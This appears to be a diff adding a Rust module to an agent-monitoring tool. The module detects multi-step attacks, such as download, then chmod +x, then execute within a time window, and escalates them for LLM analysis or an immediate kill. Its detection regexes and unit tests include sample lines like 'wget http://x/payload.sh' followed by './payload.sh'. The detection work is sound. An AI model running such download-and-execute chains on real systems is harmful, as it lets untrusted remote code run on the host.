@@ -0,0 +1,297 @@
+//! Multi-Line Sequence Correlation
+//!
+//! Single-line matching misses attacks that unfold across lines
+//! (download script → chmod +x → execute). Sequence rules express
+//! "step A, then step B, ... within N ms" per agent; a completed
+//! sequence is escalated with all of its lines as one context.
+//!
+//! ```toml
+//! [[sequence]]
+//! id = "download-exec"
+//! steps = ['(?i)(curl|wget)\s', '(?i)chmod\s+\+x', '(?i)\./\S+']
+//! within_ms = 5000
+//! ```
+
+use crate::filter::{ConfigError, RuleAction, Severity};
+use regex::Regex;
+use serde::Deserialize;
+use std::time::{Duration, Instant};
+
+/// Max in-progress matches tracked per sequence (oldest dropped first)
+const MAX_PARTIALS: usize = 32;
+
+/// Sequence rule from a `[[sequence]]` table
+#[derive(Debug, Clone, Deserialize)]
+pub struct SequenceDef {
+    pub id: String,
+    #[serde(default)]
+    pub description: Option<String>,
+    /// Patterns that must match in order (other lines may interleave)
+    pub steps: Vec<String>,
+    /// Window from the first step to the last
+    pub within_ms: u64,
+    #[serde(default)]
+    pub severity: Severity,
+    /// `analyze` sends the aggregated lines to the LLM, `kill` acts immediately
+    #[serde(default)]
+    pub action: RuleAction,
+}
+
+impl SequenceDef {
+    /// Validate step patterns and window
+    pub fn validate(&self) -> Result<(), ConfigError> {
+        if self.steps.len() < 2 {
+            return Err(format!("sequence '{}' needs at least 2 steps", self.id).into());
+        }
+        if self.within_ms == 0 {
+            return Err(format!("sequence '{}' has a zero window", self.id).into());
+        }
+        for step in &self.steps {
+            Regex::new(step).map_err(|e| ConfigError::regex(&self.id, e))?;
+        }
+        Ok(())
+    }
+}
+
+struct CompiledSequence {
+    id: String,
+    description: Option<String>,
+    steps: Vec<Regex>,
+    window: Duration,
+    severity: Severity,
+    action: RuleAction,
+}
+
+/// Compiled sequence rules (shared by all connections)
+pub struct Correlator {
+    sequences: Vec<CompiledSequence>,
+}
+
+/// A completed sequence
+#[derive(Debug, Clone, PartialEq)]
+pub struct SequenceMatch {
+    pub id: String,
+    pub description: Option<String>,
+    pub severity: Severity,
+    pub action: RuleAction,
+    /// The lines that satisfied each step, in order
+    pub lines: Vec<String>,
+    pub elapsed: Duration,
+}
+
+impl SequenceMatch {
+    /// Aggregated context handed to the LLM and the audit trail
+    pub fn context(&self) -> String {
+        let mut out = format!("Sequence '{}'", self.id);
+        if let Some(ref description) = self.description {
+            out.push_str(&format!(" - {}", description));
+        }
+        out.push_str(&format!(
+            " ({} lines within {}ms):",
+            self.lines.len(),
+            self.elapsed.as_millis()
+        ));
+        for (i, line) in self.lines.iter().enumerate() {
+            out.push_str(&format!("\n{}. {}", i + 1, line));
+        }
+        out
+    }
+}
+
+/// In-progress match: next step to satisfy + lines so far
+struct Partial {
+    started: Instant,
+    lines: Vec<String>,
+}
+
+/// Per-agent correlation state
+pub struct SequenceTracker {
+    /// Partials per sequence (parallel to `Correlator::sequences`)
+    partials: Vec<Vec<Partial>>,
+}
+
+impl Correlator {
+    /// Compile validated sequence definitions
+    pub fn new(defs: &[SequenceDef]) -> Self {
+        let sequences = defs
+            .iter()
+            .map(|d| CompiledSequence {
+                id: d.id.clone(),
+                description: d.description.clone(),
+                steps: d
+                    .steps
+                    .iter()
+                    .map(|s| Regex::new(s).expect("Invalid sequence step"))
+                    .collect(),
+                window: Duration::from_millis(d.within_ms),
+                severity: d.severity,
+                action: d.action,
+            })
+            .collect();
+        Self { sequences }
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.sequences.is_empty()
+    }
+
+    /// Fresh state for a new agent
+    pub fn tracker(&self) -> SequenceTracker {
+        SequenceTracker {
+            partials: self.sequences.iter().map(|_| Vec::new()).collect(),
+        }
+    }
+
+    /// Feed one line; returns the first sequence it completes
+    pub fn observe(
+        &self,
+        tracker: &mut SequenceTracker,
+        line: &str,
+        now: Instant,
+    ) -> Option<SequenceMatch> {
+        let mut completed = None;
+
+        for (seq, partials) in self.sequences.iter().zip(tracker.partials.iter_mut()) {
+            // Expire partials outside the window
+            partials.retain(|p| now.duration_since(p.started) <= seq.window);
+
+            // Advance existing partials (each by at most one step)
+            for p in partials.iter_mut() {
+                if seq.steps[p.lines.len()].is_match(line) {
+                    p.lines.push(line.to_string());
+                }
+            }
+
+            // Start a new partial on the first step
+            if seq.steps[0].is_match(line) {
+                if partials.len() == MAX_PARTIALS {
+                    partials.remove(0);
+                }
+                partials.push(Partial {
+                    started: now,
+                    lines: vec![line.to_string()],
+                });
+            }
+
+            if completed.is_some() {
+                continue;
+            }
+            if let Some(done) = partials
+                .iter()
+                .position(|p| p.lines.len() == seq.steps.len())
+            {
+                let p = partials.swap_remove(done);
+                completed = Some(SequenceMatch {
+                    id: seq.id.clone(),
+                    description: seq.description.clone(),
+                    severity: seq.severity,
+                    action: seq.action,
+                    lines: p.lines,
+                    elapsed: now.duration_since(p.started),
+                });
+                // One alert per burst: forget overlapping attempts
+                partials.clear();
+            }
+        }
+
+        completed
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn download_exec(within_ms: u64) -> Correlator {
+        Correlator::new(&[SequenceDef {
+            id: "download-exec".to_string(),
+            description: Some("Download, make executable, run".to_string()),
+            steps: vec![
+                r"(?i)(curl|wget)\s".to_string(),
+                r"(?i)chmod\s+\+x".to_string(),
+                r"\./\S+".to_string(),
+            ],
+            within_ms,
+            severity: Severity::Critical,
+            action: RuleAction::Analyze,
+        }])
+    }
+
+    #[test]
+    fn test_sequence_completes_in_order() {
+        let c = download_exec(5000);
+        let mut t = c.tracker();
+        let t0 = Instant::now();
+
+        assert!(c.observe(&mut t, "wget http://x/payload.sh", t0).is_none());
+        assert!(c.observe(&mut t, "User logged in", t0).is_none()); // interleaved
+        assert!(c
+            .observe(&mut t, "chmod +x payload.sh", t0 + Duration::from_secs(1))
+            .is_none());
+        let hit = c
+            .observe(&mut t, "./payload.sh", t0 + Duration::from_secs(2))
+            .unwrap();
+
+        assert_eq!(hit.id, "download-exec");
+        assert_eq!(hit.lines.len(), 3);
+        assert_eq!(hit.elapsed, Duration::from_secs(2));
+        assert!(hit
+            .context()
+            .starts_with("Sequence 'download-exec' - Download, make executable, run (3 lines"));
+        assert!(hit.context().contains("2. chmod +x payload.sh"));
+    }
+
+    #[test]
+    fn test_sequence_window_expires() {
+        let c = download_exec(5000);
+        let mut t = c.tracker();
+        let t0 = Instant::now();
+
+        c.observe(&mut t, "curl -O http://x/a.sh", t0);
+        c.observe(&mut t, "chmod +x a.sh", t0 + Duration::from_secs(1));
+        assert!(c
+            .observe(&mut t, "./a.sh", t0 + Duration::from_secs(6))
+            .is_none());
+    }
+
+    #[test]
+    fn test_sequence_out_of_order_ignored() {
+        let c = download_exec(5000);
+        let mut t = c.tracker();
+        let t0 = Instant::now();
+
+        c.observe(&mut t, "chmod +x a.sh", t0);
+        c.observe(&mut t, "./a.sh", t0);
+        assert!(c.observe(&mut t, "curl -O http://x/a.sh", t0).is_none());
+    }
+
+    #[test]
+    fn test_trackers_are_isolated() {
+        let c = download_exec(5000);
+        let mut agent_a = c.tracker();
+        let mut agent_b = c.tracker();
+        let t0 = Instant::now();
+
+        c.observe(&mut agent_a, "wget http://x/a.sh", t0);
+        c.observe(&mut agent_a, "chmod +x a.sh", t0);
+        assert!(c.observe(&mut agent_b, "./a.sh", t0).is_none());
+        assert!(c.observe(&mut agent_a, "./a.sh", t0).is_some());
+    }
+
+    #[test]
+    fn test_validate() {
+        let mut def = SequenceDef {
+            id: "x".to_string(),
+            description: None,
+            steps: vec!["a".to_string()],
+            within_ms: 100,
+            severity: Severity::Medium,
+            action: RuleAction::Analyze,
+        };
+        assert!(def.validate().is_err()); // single step
+        def.steps.push("(".to_string());
+        assert!(def.validate().is_err()); // bad regex
+        def.steps[1] = "b".to_string();
+        assert!(def.validate().is_ok());
+    }
+}